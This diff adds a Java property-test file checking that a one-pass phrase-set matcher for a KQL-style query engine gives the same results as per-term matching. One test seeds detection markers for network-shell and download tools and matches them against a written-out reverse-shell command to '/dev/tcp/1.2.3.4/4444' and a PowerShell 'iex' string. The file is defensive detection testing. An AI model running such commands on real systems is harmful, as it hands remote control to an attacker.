@@ -1,0 +1,64 @@
+package dev.hookline.kql.eval;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.ArrayList;
+import java.util.List;
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import net.jqwik.api.constraints.CharRange;
+import net.jqwik.api.constraints.Chars;
+import net.jqwik.api.constraints.Size;
+import net.jqwik.api.constraints.StringLength;
+import org.junit.jupiter.api.Test;
+
+/** The one-pass has_any automaton gives exactly what checking each needle with Terms.has gives. */
+class PhraseSetAgreesWithHasTest {
+    private static boolean naive(String hay, List<String> needles, boolean ci) {
+        for (String n : needles) {
+            if (Terms.has(hay, n, ci, true)) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    private static List<String> prepared(List<String> needles, boolean ci) {
+        List<String> out = new ArrayList<>();
+        for (String n : needles) {
+            out.add(ci ? Terms.foldAll(n) : n);
+        }
+        return out;
+    }
+
+    @Property(tries = 3000)
+    void agreesOnRandomInput(
+            @ForAll @StringLength(max = 40) @Chars({'a', 'b', 'A', 'B', '1', '.', ' ', '-', '/', '('}) String hay,
+            @ForAll @Size(min = 1, max = 6) List<@StringLength(max = 5)
+                    @Chars({'a', 'b', 'A', '1', '.', ' ', '-', '/', '('}) String> needles,
+            @ForAll boolean ci) {
+        List<String> p = prepared(needles, ci);
+        assertEquals(naive(hay, p, ci), new PhraseSet(p, ci).hasAny(hay), hay + " has_any " + needles);
+    }
+
+    @Property(tries = 500)
+    void agreesOnNonAsciiInput(@ForAll @StringLength(max = 30) @CharRange(from = 'a', to = 'ž') String hay,
+            @ForAll @Size(min = 1, max = 4) List<@StringLength(min = 1, max = 3) @CharRange(from = 'a', to = 'ž') String> needles) {
+        List<String> p = prepared(needles, true);
+        assertEquals(naive(hay, p, true), new PhraseSet(p, true).hasAny(hay));
+    }
+
+    @Test
+    void seedMarkersFollowTermAndPhraseBoundaries() {
+        PhraseSet s = new PhraseSet(prepared(List.of("/dev/tcp", "bash -i", "IEX(", "curl http", "postinstall"), true), true);
+        assertTrue(s.hasAny("bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444'"));
+        assertTrue(s.hasAny("pwsh -c iex(New-Object X)"));
+        assertFalse(s.hasAny("echo SIEX(1)"));
+        assertTrue(s.hasAny("sh -c node scripts/postinstall.js"));
+        assertFalse(s.hasAny("sh -c node scripts/postinstaller.js"));
+        assertFalse(s.hasAny("curl -s http://x"));
+        assertTrue(s.hasAny("CURL HTTP://X"));
+    }
+}
